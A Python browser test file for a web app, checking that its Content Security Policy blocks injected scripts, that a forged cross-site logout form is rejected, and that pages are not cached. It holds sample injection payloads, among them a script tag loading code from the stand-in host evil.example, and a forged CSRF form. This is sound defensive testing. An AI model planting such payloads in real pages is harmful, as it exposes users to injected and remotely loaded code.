"""What a browser refuses on our behalf, and what we refuse when it is sent by another site."""

NEIGHBOUR = "http://127.0.0.1:9/"
"""Another origin of the same site, so that browsers send our cookie along."""
INTRUSIONS = """() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = 'a script'";
    document.body.append(script);
    const link = document.createElement("a");
    link.setAttribute("onclick", "window.ran = 'a handler'");
    document.body.append(link);
    link.click();
    const far = document.createElement("script");
    far.src = "https://evil.example/x.js";
    document.body.append(far);
    return window.ran ?? null;
}"""


def test_a_page_runs_nothing_that_was_written_into_it(at_desk):
    """So the silence of every other page in this layer says that none of them has any."""
    desk = at_desk("mgr-4s")
    desk.open("/stores/s-4s/tasks")

    assert desk.page.evaluate(INTRUSIONS) is None
    desk.page.wait_for_function("() => true")
    refused = [said for said in desk.complaints if "Content Security Policy" in said]
    assert len(refused) >= 3
    desk.complaints.clear()


def test_a_form_on_another_site_changes_nothing(at_desk, stack):  # negative 18
    desk = at_desk("mgr-4s")
    token = desk.page.locator("input[name=csrf_token]").first.input_value()
    page = f"""<!doctype html><title>x</title>
        <form method="post" action="{stack.info["base_url"]}/logout">
        <input name="csrf_token" value="{token}"><button>Win a car</button></form>"""
    desk.page.route(NEIGHBOUR, lambda route: route.fulfill(body=page, content_type="text/html"))
    desk.page.goto(NEIGHBOUR)

    with desk.page.expect_response("**/logout") as answer:
        desk.page.get_by_role("button").click()

    assert answer.value.status == 403
    assert "slipboard=" in answer.value.request.all_headers()["cookie"]
    desk.open("/stores/s-4s/tasks")
    assert "/login" not in desk.page.url


def test_a_page_that_was_left_is_kept_nowhere(at_desk):
    desk = at_desk("mgr-4s")
    shown = desk.open("/stores/s-4s/bookings")

    assert shown.headers["cache-control"] == "no-store"
    assert "server" not in shown.headers
